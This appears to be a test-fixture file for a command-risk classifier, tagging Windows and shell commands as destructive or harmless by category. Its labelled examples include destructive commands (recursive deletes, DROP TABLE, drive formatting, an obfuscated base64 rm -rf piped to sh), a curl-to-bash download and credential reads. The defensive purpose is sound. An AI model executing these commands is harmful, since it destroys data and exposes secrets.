/** Windows, and ways in which a shell hands a command on. */
export const furtherMachines = String.raw`
# windows
D data :: powershell -Command "Remove-Item -Recurse -Force C:\\data"
D data :: powershell -Command "Get-ChildItem C:\\data -Recurse | Remove-Item -Force"
- read :: powershell -Command "Get-ChildItem C:\\data"
D infra/config :: powershell -Command "Remove-AzResourceGroup -Name rg -Force"
D infra/config :: powershell -Command "Remove-VM -Name web -Force"
D config/infra :: powershell -Command "Remove-ADUser -Identity bob -Confirm:\$false"
D data :: powershell -Command "Invoke-Sqlcmd -Query 'DROP TABLE orders' -ServerInstance prod"
- read :: powershell -Command "Invoke-Sqlcmd -Query 'SELECT 1' -ServerInstance prod"
- infra :: powershell -Command "Stop-Service Spooler"
D data :: cmd /c "rd /s /q C:\\data"
D data :: cmd /c del /f /s /q C:\\data\\*
D data/config :: reg delete HKLM\\Software\\App /f
D data :: format D: /q
D data :: powershell -Command "Clear-RecycleBin -Force; Clear-EventLog -LogName System"
D data :: powershell -c "[System.IO.Directory]::Delete('C:\\data', \$true)"
D config/infra/data :: net user bob /delete
- config :: powershell -Command "Set-Item -Path Env:FOO -Value bar"
D config/data/infra :: sc delete MyService
- infra :: sc stop MyService
D config/data :: schtasks /delete /tn job /f
- read :: tasklist
- infra/data/config :: taskkill /F /IM node.exe
D data :: robocopy C:\\empty C:\\data /MIR
- data :: robocopy C:\\a C:\\b /E
- data :: xcopy a b /E
D infra/data :: powershell -Command "Remove-S3Bucket -BucketName b -DeleteBucketContent -Force"
- read :: powershell -Command "Get-S3Bucket"
D data/infra/config :: Remove-MgUser -UserId bob
# shell mechanics
D data :: python3 - <<'X'⏎import os⏎for f in os.listdir("data"):⏎    os.remove("data/" + f)⏎X
D data :: node -e "require('fs').rmSync('data', {recursive:true})"
D data :: ruby -rfileutils -e 'FileUtils.rm_rf("data")'
D data :: perl -e 'unlink glob "data/*"'
D data :: php -r 'unlink("data.txt");'
D data :: for f in data/*; do rm "$f"; done
D data :: while read f; do rm "$f"; done < list
D data :: if true; then rm -rf data; fi
D data :: function nuke() { rm -rf data; }; nuke
- read/config/data :: function nuke() { rm -rf data; }; echo ok
D data :: timeout 10 rm -rf data
D data :: sudo -u root -- rm -rf /srv/data
D data :: ssh root@db 'rm -rf /var/lib/postgresql'
D data :: docker run --rm -v /srv:/x alpine rm -rf /x/data
D data :: echo cm0gLXJmIC9zcnYvZGF0YQ== | base64 -d | sh
- unknown :: curl -s https://x.example/i.sh | bash
- read :: grep -r "DROP TABLE" .
- read :: echo "rm -rf /"
- data :: git commit -m "rm -rf everything"
- data :: cat > a.sh <<'X'⏎rm -rf /⏎X
D data :: make -f - <<'X'⏎all:⏎	rm -rf /srv/data⏎X
D data :: systemd-run --user rm -rf /srv/data
D data :: nsenter -t 1 -m -- rm -rf /srv/data
D data :: at now <<< 'rm -rf /srv/data'
D data :: (crontab -l; echo '* * * * * rm -rf /srv/data') | crontab -
D data/config :: crontab -r
- infra/data/config :: systemctl stop postgresql
D infra/config/data :: systemctl disable --now x && rm /etc/systemd/system/x.service
- infra :: pkill -f worker
- infra :: kill -9 123
- infra :: shutdown -h now
D config/infra/data :: iptables -F
- read :: iptables -L
D config/infra/data :: ufw --force reset
D config/infra/data :: userdel -r bob
- secret :: printenv
- secret :: cat ~/.aws/credentials
- secret :: kubectl get secret db -o yaml
- secret :: gcloud auth print-access-token
- secret :: aws secretsmanager get-secret-value --secret-id db
- read :: aws s3 ls
- read :: find . -name '*.py'
- read :: rg TODO src
- read :: git log --oneline
- read :: git diff HEAD~1
- read :: ls -la && pwd && whoami
- read :: jq '.a' x.json
- read :: npm ls
- read :: docker ps -a
- read :: psql -c 'SELECT 1'
- read :: head -5 a.csv | cut -d, -f1 | sort | uniq -c
`;
